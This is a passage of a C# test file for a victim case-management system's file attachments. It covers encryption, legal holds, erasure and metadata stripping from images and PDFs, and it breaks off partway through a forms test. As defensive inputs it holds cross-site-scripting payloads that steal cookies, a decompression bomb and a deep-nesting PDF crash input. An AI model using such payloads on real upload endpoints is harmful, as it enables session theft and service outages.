using System.Buffers.Binary;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Palermo.Audit;
using Palermo.Cases;
using Palermo.Data;
using Palermo.Privacy;
using Palermo.Referrals;
using Palermo.Consent;

namespace Palermo.Tests.Cases;

public sealed class AttachmentTests
{
    /// <summary>The upload path's checks and stripping, a PDF cleaned in this process (no child command configured).</summary>
    private static (AttachmentType Type, byte[] Content, string FileName) Accept(string? fileName, string? declaredType, byte[] content)
    {
        using var cleaner = new PdfCleaner(new PdfCleanerOptions());
        return AttachmentContent.AcceptAsync(fileName, declaredType, content, cleaner, CancellationToken.None).GetAwaiter().GetResult();
    }

    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>
    /// A legal hold keeps everything held about the person: while it is in force a file of theirs cannot be deleted
    /// (it used to be deleted like any other — a hold blocked erasure but not this), and nothing is audited; once the
    /// hold is released the deletion goes through.
    /// </summary>
    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task DeleteAttachment_WhileALegalHoldIsInForce_IsRefused_AfterReleaseItWorks(DatabaseProvider provider)
    {
        await using var t = await TestDatabase.CreateAsync(provider);
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        var file = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("statement.txt", "text/plain", "Statement."u8.ToArray()), w.NgoWorker));
        await t.With(sp => sp.Get<SetLegalHold>().HandleAsync(c.CaseId, true, "court order", w.NgoSupervisor));

        var refused = await Assert.ThrowsAsync<DomainException>(() => t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, file.Id, w.NgoSupervisor)));
        Assert.Equal("attachment", refused.Field);
        Assert.Contains("legal hold", refused.Message, StringComparison.Ordinal);
        Assert.Single((await t.With(sp => sp.Get<GetCase>().HandleAsync(c.CaseId, w.NgoWorker))).Attachments);
        Assert.Equal(0, await t.With(sp => sp.Db().AuditEntries.CountAsync(e => e.Event == AuditEvent.CaseAttachmentDeleted)));

        await t.With(sp => sp.Get<SetLegalHold>().HandleAsync(c.CaseId, false, "proceedings concluded", w.NgoSupervisor));
        await t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, file.Id, w.NgoSupervisor));
        Assert.Empty((await t.With(sp => sp.Get<GetCase>().HandleAsync(c.CaseId, w.NgoWorker))).Attachments);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Attachment_IsSealed_DownloadsIntact_Audited_WithoutItsName_AndErasedWithThePerson(DatabaseProvider provider)
    {
        await using var t = await TestDatabase.CreateAsync(provider);
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        var text = Encoding.UTF8.GetBytes("Statement: recruited in Odesa by a man called Serhiy.\n");
        var added = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("statement-Kovalenko.txt", "text/plain", text), w.NgoWorker));
        Assert.Equal(AttachmentType.Text, added.Type);
        var pdf = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("passport.pdf", "application/pdf", TestPdf.WithMetadata(Jpeg(out _))), w.NgoWorker));

        var view = await t.With(sp => sp.Get<GetCase>().HandleAsync(c.CaseId, w.NgoWorker));
        Assert.Equal(["passport.pdf", "statement-Kovalenko.txt"], view.Attachments.Select(a => a.FileName).Order());
        var file = await t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, added.Id, w.NgoWorker));
        Assert.Equal(text, file.Content);
        Assert.Equal("statement-Kovalenko.txt", file.FileName);
        var pdfFile = await t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, pdf.Id, w.NgoWorker));
        Assert.Equal("application/pdf", pdfFile.MediaType);
        // The PDF's author, XMP and the embedded photo's EXIF were removed before sealing; the page is still there.
        var pdfText = Encoding.Latin1.GetString(pdfFile.Content);
        Assert.DoesNotContain("Olena", pdfText, StringComparison.Ordinal);
        Assert.DoesNotContain("GPSLatitude", pdfText, StringComparison.Ordinal);
        Assert.Contains(TestPdf.PageText, pdfText, StringComparison.Ordinal);

        var raw = await t.With(sp => sp.Db().Database.SqlQuery<byte[]>($"SELECT \"Content\" AS \"Value\" FROM \"CaseAttachment\"").ToListAsync());
        var rawNames = await t.With(sp => sp.Db().Database.SqlQuery<byte[]>($"SELECT \"FileName\" AS \"Value\" FROM \"CaseAttachment\"").ToListAsync());
        Assert.All(raw.Concat(rawNames), r => Assert.DoesNotContain("Serhiy", Encoding.UTF8.GetString(r), StringComparison.Ordinal));
        Assert.All(raw, r => Assert.DoesNotContain("%PDF", Encoding.ASCII.GetString(r), StringComparison.Ordinal));
        Assert.All(rawNames, r => Assert.DoesNotContain("Kovalenko", Encoding.UTF8.GetString(r), StringComparison.Ordinal));

        var audit = await t.With(sp => sp.Db().AuditEntries.Where(e => e.Event == AuditEvent.CaseAttachmentAdded || e.Event == AuditEvent.CaseAttachmentDownloaded).ToListAsync());
        Assert.Equal(4, audit.Count);
        Assert.All(audit, e => Assert.DoesNotContain("Kovalenko", e.Purpose ?? "", StringComparison.Ordinal));
        Assert.All(audit, e => Assert.DoesNotContain(".txt", e.Purpose ?? "", StringComparison.Ordinal));

        // Out of reach: another organisation, or an attachment id of another case.
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, added.Id, w.ShelterWorker)));
        var other = await w.RegisterAsync(CaseWorld.Input("Amina", "Diallo"));
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(other.CaseId, added.Id, w.NgoWorker)));

        await t.With(sp => sp.Get<ErasePerson>().HandleAsync(c.CaseId, "request of the person", w.NgoSupervisor));
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, added.Id, w.NgoWorker)));
        Assert.Empty((await t.With(sp => sp.Get<GetCase>().HandleAsync(c.CaseId, w.NgoWorker))).Attachments);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Delete_RemovesTheRowAndItsCiphertext_OwnerOrUploaderOnly_AuditedWithTheReferenceOnly(DatabaseProvider provider)
    {
        await using var t = await TestDatabase.CreateAsync(provider);
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        var statement = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("Statement of Olena about the recruiter in Odesa. ", 200)));
        var mine = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("statement-Kovalenko.txt", "text/plain", statement), w.NgoWorker));
        var sealedContent = await t.With(sp => sp.Db().Database.SqlQuery<byte[]>($"SELECT \"Content\" AS \"Value\" FROM \"CaseAttachment\" WHERE \"Id\" = {mine.Id}").SingleAsync());

        var path = provider == DatabaseProvider.Sqlite ? new Microsoft.Data.Sqlite.SqliteConnectionStringBuilder(t.Settings.ConnectionString).DataSource : null;
        var probe = sealedContent.AsSpan(100, 64).ToArray();
        async Task<bool> FileHoldsCiphertext()
        {
            foreach (var file in new[] { path!, path + "-wal" }.Where(File.Exists))
            {
                if ((await File.ReadAllBytesAsync(file)).AsSpan().IndexOf(probe) >= 0) return true;
            }

            return false;
        }

        if (path is not null) Assert.True(await FileHoldsCiphertext());

        // Out of reach: another organisation without a referral, a role that may not edit, another case's file id.
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, mine.Id, w.ShelterWorker)));
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, mine.Id, w.Analyst)));
        var other = await w.RegisterAsync(CaseWorld.Input("Amina", "Diallo"));
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(other.CaseId, mine.Id, w.NgoWorker)));

        // A shelter shown the identity may add files and delete its own, but not the owner's.
        await t.With(sp => sp.Get<RecordConsent>().HandleAsync(c.CaseId, new("Referral", "Written", w.Shelter.Id), w.NgoWorker));
        await t.With(sp => sp.Get<RecordConsent>().HandleAsync(c.CaseId, new("SharingIdentifiableData", "Written", w.Shelter.Id), w.NgoWorker));
        var referral = await t.With(sp => sp.Get<CreateReferral>().HandleAsync(c.CaseId, new(w.Shelter.Id, ["shelter"], ["Identity"], null, null, null), w.NgoWorker));
        await t.With(sp => sp.Get<DecideReferral>().HandleAsync(referral.Id, "Accept", null, w.ShelterWorker));
        var theirs = await t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("intake.txt", "text/plain", "Arrived."u8.ToArray()), w.ShelterWorker));
        var refused = await Assert.ThrowsAsync<DomainException>(() => t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, mine.Id, w.ShelterWorker)));
        Assert.Equal("attachment", refused.Field);
        await t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, theirs.Id, w.ShelterWorker));
        await t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, mine.Id, w.NgoSupervisor));

        Assert.Empty((await t.With(sp => sp.Get<GetCase>().HandleAsync(c.CaseId, w.NgoWorker))).Attachments);
        Assert.Equal(0, await t.With(sp => sp.Db().Set<CaseAttachment>().CountAsync()));
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DownloadAttachment>().HandleAsync(c.CaseId, mine.Id, w.NgoWorker)));
        await Assert.ThrowsAsync<NotFoundException>(() => t.With(sp => sp.Get<DeleteAttachment>().HandleAsync(c.CaseId, mine.Id, w.NgoWorker)));
        var audit = await t.With(sp => sp.Db().AuditEntries.Where(e => e.Event == AuditEvent.CaseAttachmentDeleted).OrderBy(e => e.Sequence).ToListAsync());
        Assert.Equal([theirs.Id.ToString(), mine.Id.ToString()], audit.Select(e => e.EntityId));
        Assert.All(audit, e => Assert.Equal($"case {c.Reference}", e.Purpose));

        // secure_delete zeroed the freed pages and the checkpoint carried that into the file; the WAL was truncated.
        if (path is not null) Assert.False(await FileHoldsCiphertext(), "the database file still holds the deleted file's ciphertext");
    }

    [Theory]
    [InlineData("empty.txt", "text/plain", 0, "The file is empty.", "content")]
    [InlineData("photo.png", "image/png", 1, "content is Pdf", "content")] // a PDF named .png
    [InlineData("scan.pdf", "image/png", 1, "another type", "contentType")] // name right, declared type lies
    [InlineData("run.exe", "application/octet-stream", 2, "Only PDF, JPEG, PNG", "content")] // an executable
    [InlineData("notes.docx", "application/pdf", 1, "must end in", "fileName")]
    [InlineData("statement.txt", "text/plain", 3, "web page", "content")] // an HTML page renamed to .txt
    [InlineData("statement.txt", "text/plain", 4, "web page", "content")] // an SVG image (markup that can carry script) renamed to .txt
    [InlineData("statement.txt", "text/plain", 5, "web page", "content")] // HTML without a doctype, after a BOM and blank lines
    public async Task BadFiles_AreRefusedNamingThePartAtFault_AndNothingIsSaved(string name, string type, int kind, string message, string field)
    {
        await using var t = await TestDatabase.CreateAsync();
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        var content = kind switch
        {
            0 => [],
            1 => Pdf,
            3 => "\n  <!DOCTYPE html><html><body><script>fetch('/api/v1/cases')</script></body></html>"u8.ToArray(),
            4 => "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"u8.ToArray(),
            5 => "\uFEFF\r\n\r\n<SCRIPT>alert(document.cookie)</SCRIPT>"u8.ToArray(),
            _ => "MZ\u0090\0\u0003\0\0\0"u8.ToArray(),
        };
        var ex = await Assert.ThrowsAsync<DomainException>(() => t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new(name, type, content), w.NgoWorker)));
        Assert.Equal(field, ex.Field);
        Assert.Contains(message, ex.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(name, ex.Message, StringComparison.Ordinal);
        Assert.Equal(0, await t.With(sp => sp.Db().Set<CaseAttachment>().CountAsync()));
        Assert.Equal(0, await t.With(sp => sp.Db().AuditEntries.CountAsync(e => e.Event == AuditEvent.CaseAttachmentAdded)));
    }

    [Fact]
    public void TextThatOnlyMentionsMarkup_IsStillPlainText()
    {
        foreach (var text in new[] { "<5 years in the shelter; she wrote <html> in a message", "  <3 from the family", "<Beneficiary> statement", "Notes\n<p>quoted</p>" })
        {
            Assert.Equal(AttachmentType.Text, Accept("notes.txt", "text/plain", Encoding.UTF8.GetBytes(text)).Type);
        }
    }

    [Fact]
    public async Task Oversized_IsRefused()
    {
        await using var t = await TestDatabase.CreateAsync();
        var w = await CaseWorld.CreateAsync(t);
        var c = await w.RegisterAsync();
        var big = new byte[AttachmentContent.MaxBytes + 1];
        Pdf.CopyTo(big, 0);
        var ex = await Assert.ThrowsAsync<DomainException>(() => t.With(sp => sp.Get<AttachToCase>().HandleAsync(c.CaseId, new("big.pdf", "application/pdf", big), w.NgoWorker)));
        Assert.Equal("content", ex.Field);
        Assert.Contains("larger than 4 MB", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Jpeg_LosesExifGpsCommentsAndThumbnail_KeepsEveryPixelSegment()
    {
        var jpeg = Jpeg(out var pixelSegments);
        Assert.Equal(AttachmentType.Jpeg, AttachmentContent.Sniff(jpeg));
        var (type, stored, _) = Accept("IMG_0001.JPG", "image/jpeg", jpeg);
        Assert.Equal(AttachmentType.Jpeg, type);
        var s = Encoding.Latin1.GetString(stored);
        Assert.DoesNotContain("Exif", s, StringComparison.Ordinal);
        Assert.DoesNotContain("GPS", s, StringComparison.Ordinal);
        Assert.DoesNotContain("http://ns.adobe.com/xap", s, StringComparison.Ordinal);
        Assert.DoesNotContain("Taken by", s, StringComparison.Ordinal);
        Assert.DoesNotContain("THUMB", s, StringComparison.Ordinal);
        Assert.DoesNotContain("after the end", s, StringComparison.Ordinal);
        Assert.Contains("JFIF\0", s, StringComparison.Ordinal);
        foreach (var seg in pixelSegments) Assert.Contains(Encoding.Latin1.GetString(seg), s, StringComparison.Ordinal);
        Assert.Equal([0xFF, 0xD9], stored[^2..]);
        // Stripping twice changes nothing more.
        Assert.Equal(stored, AttachmentContent.StripJpeg(stored));
    }

    [Fact]
    public void Png_LosesTextTimeAndExifChunks_KeepsImageChunks()
    {
        var png = Png();
        var (type, stored, _) = Accept("scan.png", null, png);
        Assert.Equal(AttachmentType.Png, type);
        var s = Encoding.Latin1.GetString(stored);
        foreach (var gone in new[] { "tEXt", "zTXt", "iTXt", "eXIf", "tIME", "prVt", "GPSLatitude", "Author" }) Assert.DoesNotContain(gone, s, StringComparison.Ordinal);
        foreach (var kept in new[] { "IHDR", "PLTE", "IDAT", "pHYs", "IEND" }) Assert.Contains(kept, s, StringComparison.Ordinal);
        Assert.EndsWith("IEND", Encoding.Latin1.GetString(stored[..^4]), StringComparison.Ordinal);
    }

    [Fact]
    public void Pdf_LosesInformationDictionaryXmpPrivateDataAndPhotoExif_KeepsThePage()
    {
        var original = TestPdf.WithMetadata(Jpeg(out var pixelSegments));
        Assert.Contains("Olena Kovalenko", Encoding.Latin1.GetString(original), StringComparison.Ordinal);
        var (type, stored, _) = Accept("statement.pdf", "application/pdf", original);
        Assert.Equal(AttachmentType.Pdf, type);
        var s = Encoding.Latin1.GetString(stored);
        foreach (var gone in new[] { "Olena", "ScanSnap", "Acme PDF", "Passport", "victim statement", "D:2025", "Illustrator", "Exif", "GPSLatitude", "Taken by" })
        {
            Assert.DoesNotContain(gone, s, StringComparison.Ordinal);
        }

        Assert.Contains(TestPdf.PageText, s, StringComparison.Ordinal);
        foreach (var seg in pixelSegments) Assert.Contains(Encoding.Latin1.GetString(seg), s, StringComparison.Ordinal); // the photo itself stays
        using var reopened = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(stored), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Import);
        Assert.Equal(1, reopened.PageCount);
        Assert.Equal("", reopened.Info.Author);
        Assert.Equal("", reopened.Info.Title);
        Assert.Equal("", reopened.Info.Keywords);
    }

    [Fact]
    public void Pdf_JpegUnderFlate_LosesExif_AndIsStoredUnderItsOwnFilter()
    {
        // Some producers compress everything, JPEGs included: the EXIF is then invisible to a search of the file.
        var jpeg = Jpeg(out var pixelSegments);
        var zipped = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(zipped, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true)) z.Write(jpeg);
        var original = TestPdf.WithMetadata(zipped.ToArray(), imageFilter: "[/FlateDecode /DCTDecode]");
        Assert.DoesNotContain("GPSLatitude", Encoding.Latin1.GetString(original), StringComparison.Ordinal);

        var (image, filter) = StoredImage(Accept("statement.pdf", "application/pdf", original).Content);
        Assert.Equal("/DCTDecode", filter);
        var s = Encoding.Latin1.GetString(image);
        foreach (var gone in new[] { "Exif", "GPSLatitude", "Taken by", "THUMBS" }) Assert.DoesNotContain(gone, s, StringComparison.Ordinal);
        foreach (var seg in pixelSegments) Assert.Contains(Encoding.Latin1.GetString(seg), s, StringComparison.Ordinal);

        // A JPEG under a filter that cannot be undone here, or under Flate that inflates past 64 MB, refuses the file.
        var bomb = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(bomb, System.IO.Compression.CompressionLevel.SmallestSize, leaveOpen: true))
        {
            z.Write(jpeg);
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 65; i++) z.Write(zeros);
        }

        foreach (var (bytes, chain) in new[] { (bomb.ToArray(), "[/FlateDecode /DCTDecode]"), (zipped.ToArray(), "[/RunLengthDecode /DCTDecode]") })
        {
            var ex = Assert.Throws<DomainException>(() => Accept("statement.pdf", "application/pdf", TestPdf.WithMetadata(bytes, imageFilter: chain)));
            Assert.Equal("content", ex.Field);
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Pdf_Jpeg2000_LosesXmpGeoJp2AndComments_KeepsHeaderAndCodestream(bool wrapped)
    {
        var (jpx, kept) = Jpeg2000(wrapped);
        var original = TestPdf.WithMetadata(jpx, imageFilter: "/JPXDecode");
        Assert.Contains("GPSLatitude", Encoding.Latin1.GetString(original), StringComparison.Ordinal);

        var (image, filter) = StoredImage(Accept("scan.pdf", "application/pdf", original).Content);
        Assert.Equal("/JPXDecode", filter);
        var s = Encoding.Latin1.GetString(image);
        foreach (var gone in new[] { "Olena", "GPSLatitude", "GeoJP2", "xml ", "uinf", "TLM!" }) Assert.DoesNotContain(gone, s, StringComparison.Ordinal);
        foreach (var part in kept) Assert.Contains(Encoding.Latin1.GetString(part), s, StringComparison.Ordinal);
        // The tile-part lost its comment: its length (Psot) was written again and still ends at the end of the codestream.
        var sot = image.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0x90, 0x00, 0x0A]);
        var psot = (int)BinaryPrimitives.ReadUInt32BigEndian(image.AsSpan(sot + 6));
        Assert.Equal([0xFF, 0xD9], image[(sot + psot)..(sot + psot + 2)]);
        Assert.Equal(image, Jpeg2000Content.Strip(image)); // nothing more to strip
    }

    [Fact]
    public void Pdf_WithADamagedJpeg2000_IsRefused()
    {
        var (jpx, _) = Jpeg2000(wrapped: true);
        foreach (var bad in new[] { jpx[..^9], jpx[..40], [.. jpx[..12], 0, 0, 0, 99, (byte)'x', (byte)'m', (byte)'l', (byte)' '] })
        {
            var ex = Assert.Throws<DomainException>(() => Accept("scan.pdf", "application/pdf", TestPdf.WithMetadata(bad, imageFilter: "/JPXDecode")));
            Assert.Equal("content", ex.Field);
            Assert.Contains("cannot be cleaned", ex.Message, StringComparison.Ordinal);
        }
    }

    /// <summary>The only image of a cleaned PDF: its stream bytes and its filter.</summary>
    private static (byte[] Stream, string Filter) StoredImage(byte[] pdf)
    {
        using var doc = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(pdf), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Import);
        var xobjects = doc.Pages[0].Resources.Elements.GetDictionary("/XObject")!;
        var image = (PdfSharp.Pdf.PdfDictionary)((PdfSharp.Pdf.Advanced.PdfReference)xobjects.Elements["/Im1"]!).Value;
        return (image.Stream!.Value, image.Elements.GetName("/Filter"));
    }

    /// <summary>
    /// A JPEG 2000 image as a scanner writes it: a JP2 file (or, unwrapped, its bare codestream) with XMP in an
    /// <c>xml </c> box (also one hidden in the image header), a GeoJP2 position in a <c>uuid</c> box, vendor info,
    /// and comments in the codestream's main and tile-part headers. Returns what must survive alongside.
    /// </summary>
    private static (byte[] File, List<byte[]> Kept) Jpeg2000(bool wrapped)
    {
        static byte[] Box(string type, byte[] content)
        {
            var b = new byte[8 + content.Length];
            BinaryPrimitives.WriteUInt32BigEndian(b, (uint)b.Length);
            Encoding.ASCII.GetBytes(type).CopyTo(b, 4);
            content.CopyTo(b, 8);
            return b;
        }

        static byte[] Seg(ushort marker, byte[] payload)
        {
            var b = new byte[4 + payload.Length];
            BinaryPrimitives.WriteUInt16BigEndian(b, marker);
            BinaryPrimitives.WriteUInt16BigEndian(b.AsSpan(2), (ushort)(payload.Length + 2));
            payload.CopyTo(b, 4);
            return b;
        }

        var siz = Seg(0xFF51, [0, 0, 0, 0, 0, 16, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 16, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 7, 1, 1]);
        var cod = Seg(0xFF52, [0, 0, 0, 1, 0, 5, 4, 4, 0, 0]);
        var qcd = Seg(0xFF5C, [0x20, 0x48, 0x50]);
        var data = new byte[] { 0x93, 0x17, 0xC0, 0x42, 0x11 };
        var tileHeader = Seg(0xFF64, [0, 1, .. Encoding.Latin1.GetBytes("tile note by Olena")]);
        byte[] tilePart = [.. tileHeader, 0xFF, 0x93, .. data];
        byte[] sot = [0xFF, 0x90, 0x00, 0x0A, 0, 0, 0, 0, 0, 0, 0, 1];
        BinaryPrimitives.WriteUInt32BigEndian(sot.AsSpan(6), (uint)(sot.Length + tilePart.Length));
        byte[] codestream = [0xFF, 0x4F, .. siz, .. Seg(0xFF64, [0, 1, .. Encoding.Latin1.GetBytes("Scanned for Olena Kovalenko GPSLatitude 45.46")]),
            .. Seg(0xFF55, [0, 0x60, .. Encoding.Latin1.GetBytes("TLM!")]), .. cod, .. qcd, .. sot, .. tilePart, 0xFF, 0xD9];
        if (!wrapped) return (codestream, [siz, cod, qcd, data]);

        var ihdr = Box("ihdr", [0, 0, 0, 16, 0, 0, 0, 16, 0, 1, 7, 7, 0, 0]);
        var colr = Box("colr", [1, 0, 0, 0, 0, 0, 17]);
        byte[] file =
        [
            0x00, 0x00, 0x00, 0x0C, 0x6A, 0x50, 0x20, 0x20, 0x0D, 0x0A, 0x87, 0x0A,
            .. Box("ftyp", [.. Encoding.ASCII.GetBytes("jp2 "), 0, 0, 0, 0, .. Encoding.ASCII.GetBytes("jp2 ")]),
            .. Box("jp2h", [.. ihdr, .. colr, .. Box("xml ", Encoding.Latin1.GetBytes("<dc:creator>Olena</dc:creator>"))]),
            .. Box("xml ", Encoding.Latin1.GetBytes("<x:xmpmeta><exif:GPSLatitude>45.4642</exif:GPSLatitude><dc:creator>Olena Kovalenko</dc:creator></x:xmpmeta>")),
            .. Box("uuid", [.. new byte[16], .. Encoding.Latin1.GetBytes("GeoJP2 GPSLatitude 45.46")]),
            .. Box("uinf", Encoding.Latin1.GetBytes("scanner of Olena")),
            .. Box("jp2c", codestream),
        ];
        return (file, [ihdr, colr, siz, cod, qcd, data]);
    }

    [Fact]
    public void Pdf_ThatCannotBeCleaned_IsRefusedNotStoredAsUploaded()
    {
        foreach (var bad in new[] { Pdf, "%PDF-1.7 nothing else"u8.ToArray(), TestPdf.WithMetadata()[..200] })
        {
            var ex = Assert.Throws<DomainException>(() => Accept("a.pdf", "application/pdf", bad));
            Assert.Equal("content", ex.Field);
            Assert.Contains("cannot be cleaned", ex.Message, StringComparison.Ordinal);
        }

        // Nesting deep enough to overflow the parser's stack (which would end the process) is measured and refused
        // first, in the file itself and inside a compressed object stream.
        var deep = new string('[', 200_000) + new string(']', 200_000);
        var plain = Encoding.Latin1.GetBytes($"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /X {deep} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
        var zipped = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(zipped, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true)) z.Write(Encoding.Latin1.GetBytes("3 0 " + deep));
        var objStm = Encoding.Latin1.GetBytes($"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {zipped.Length} >>\nstream\n")
            .Concat(zipped.ToArray()).Concat(Encoding.Latin1.GetBytes("\nendstream\nendobj\n%%EOF\n")).ToArray();
        foreach (var bomb in new[] { plain, objStm })
        {
            Assert.Equal("content", Assert.Throws<DomainException>(() => Accept("a.pdf", "application/pdf", bomb)).Field);
        }

        // A page tree nested as deep as 4 MB allows: PDFsharp recurses through it, on a thread with a large stack.
        var tree = TestPdf.DeepPageTree(38_000);
        Assert.True(tree.Length <= AttachmentContent.MaxBytes);
        var (_, cleanedTree, _) = Accept("tree.pdf", "application/pdf", tree);
        using (var reopenedTree = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(cleanedTree), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Import)) Assert.Equal(1, reopenedTree.PageCount);

        long budget = 1 << 20;
        Assert.True(PdfContent.NestingIsShallow(TestPdf.WithMetadata(Jpeg(out _)), allowStreams: true, ref budget));

        // A password-protected PDF as a PDF writer makes it, and one whose trailer merely declares encryption.
        using var protectedDoc = PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(TestPdf.WithMetadata()), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Modify);
        protectedDoc.SecuritySettings.UserPassword = "secret";
        var protectedBytes = new MemoryStream();
        protectedDoc.Save(protectedBytes, false);
        foreach (var locked in new[] { protectedBytes.ToArray(), TestPdf.WithMetadata(encryptMarker: true) })
        {
            var encrypted = Assert.Throws<DomainException>(() => Accept("a.pdf", "application/pdf", locked));
            Assert.Equal("content", encrypted.Field);
            Assert.Contains("encrypted", encrypted.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void PdfComments_LoseTheirAuthorsDatesAndIds_KeepTheirText()
    {
        var original = TestPdf.Edited(doc =>
        {
            var note = Annotation(doc, "/Text");
            note.Elements.SetString("/T", "Jane Author");
            note.Elements.SetString("/Contents", "Call the shelter on Monday");
            note.Elements.SetString("/RC", "<body><p>Call the shelter on Monday</p></body>");
            note.Elements.SetString("/M", "D:20250303101010Z");
            note.Elements.SetString("/CreationDate", "D:20250303090909Z");
            note.Elements.SetString("/NM", "jane-laptop-0001");
            var popup = Annotation(doc, "/Popup");
            popup.Elements.SetString("/T", "Jane Author");
            popup.Elements.SetString("/M", "D:20250303101010Z");
            popup.Elements.SetReference("/Parent", note);
            note.Elements.SetReference("/Popup", popup);
            var reply = Annotation(doc, "/Text");
            reply.Elements.SetString("/T", "Jane Author");
            reply.Elements.SetString("/Contents", "Done, shelter called");
            reply.Elements.SetReference("/IRT", note);
            // Some writers leave a comment's pop-up out of the page's annotation list; it is reached through /Popup.
            var unlisted = Annotation(doc, "/Popup");
            unlisted.Elements.SetString("/T", "Jane Author");
            unlisted.Elements.SetReference("/Parent", reply);
            reply.Elements.SetReference("/Popup", unlisted);
            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, note.ReferenceNotNull, popup.ReferenceNotNull, reply.ReferenceNotNull);
        });

        var cleaned = CleanPdf(original, gone: ["Jane Author", "D:20250303", "jane-laptop"]);

        using var doc = OpenPdf(cleaned);
        var annots = doc.Pages[0].Elements.GetArray("/Annots")!;
        Assert.Equal(3, annots.Elements.Count);
        var note = annots.Elements.GetDictionary(0)!;
        Assert.Equal("/Text", note.Elements.GetName("/Subtype"));
        Assert.Equal("Call the shelter on Monday", note.Elements.GetString("/Contents"));
        Assert.Contains("Call the shelter on Monday", note.Elements.GetString("/RC"), StringComparison.Ordinal);
        Assert.False(note.Elements.ContainsKey("/T"));
        var popup = annots.Elements.GetDictionary(1)!;
        Assert.Equal("/Popup", popup.Elements.GetName("/Subtype"));
        Assert.Same(note, popup.Elements.GetDictionary("/Parent"));
        var reply = annots.Elements.GetDictionary(2)!;
        Assert.Equal("Done, shelter called", reply.Elements.GetString("/Contents"));
        Assert.Same(note, reply.Elements.GetDictionary("/IRT"));
        Assert.Same(reply, reply.Elements.GetDictionary("/Popup")!.Elements.GetDictionary("/Parent"));
    }

    [Fact]
    public void PdfForms_KeepTheFilledInValues_LoseTheXfaCopy_DynamicXfaFormsAreRefused()
    {
        var original = TestPdf.Edited(doc =>
        {
            var field = Annotation(doc, "/Widget");
            field.Elements.SetName("/FT", "/Tx");
            field.Elements.SetString("/T", "interpreter_language");
            field.Elements.SetString("/V", "Romanian");
            field.Elements.SetString("/DV", "English");
            field.Elements.SetString("/M", "D:20250303101010Z");
            field.Elements.SetReference("/P", doc.Pages[0]);
            doc.Pages[0].Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(doc, field.ReferenceNotNull);
            var xfa = new PdfSharp.Pdf.PdfDictionary(doc);
            xfa.CreateStream(Encoding.Latin1.GetBytes("<xdp:xdp><xfa:datasets><xfa:data><form><hidden_note>Jane Author, mother's maiden name Petrova</hidden_note></form></xfa:data></xfa:datasets></xdp:xdp>"));
            doc.Internals.AddObject(xfa);
            var form = new PdfSharp.Pdf.PdfDictionary(doc);
